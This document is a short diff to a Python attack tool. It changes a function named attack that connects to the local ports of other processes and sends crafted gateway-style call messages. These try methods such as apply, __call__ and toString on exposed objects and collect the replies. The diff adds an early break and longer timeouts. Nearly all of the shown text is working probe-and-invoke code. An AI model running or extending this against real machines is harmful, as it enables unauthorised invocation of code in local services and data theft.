@@ -11,6 +11,7 @@ import pwd
 import socket
 import warnings
 from collections.abc import Callable, Iterable
+from itertools import product
 from pathlib import Path
 
 CALLS = ("apply", "call", "__call__", "toString", "hashCode", "equals", "target", "__repr__")
@@ -70,15 +71,22 @@ def sockets(pid: int) -> set[str]:
 
 
 def attack(ports: Iterable[int]) -> bytes:
-    """Return all that is answered at some ports."""
-    return b"\n".join(ask(port, proxy, call) for port in sorted(ports) for proxy in PROXIES for call in CALLS)
+    """Return all that is answered at some ports; one that does not answer a call is left alone."""
+    found = []
+    for port in sorted(ports):
+        for proxy, call in product(PROXIES, CALLS):
+            answer = ask(port, proxy, call)
+            if not answer:
+                break
+            found.append(answer)
+    return b"\n".join(found)
 
 
 def ask(port: int, proxy: str, call: str) -> bytes:
     got = b""
     try:
-        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection, connection.makefile("rb") as stream:
-            connection.settimeout(0.2)
+        with socket.create_connection(("127.0.0.1", port), timeout=5) as connection, connection.makefile("rb") as stream:
+            connection.settimeout(5)
             connection.sendall(f"c\n{proxy}\n{call}\nlo0\ne\n".encode())
             for _ in range(100):
                 line = stream.readline()
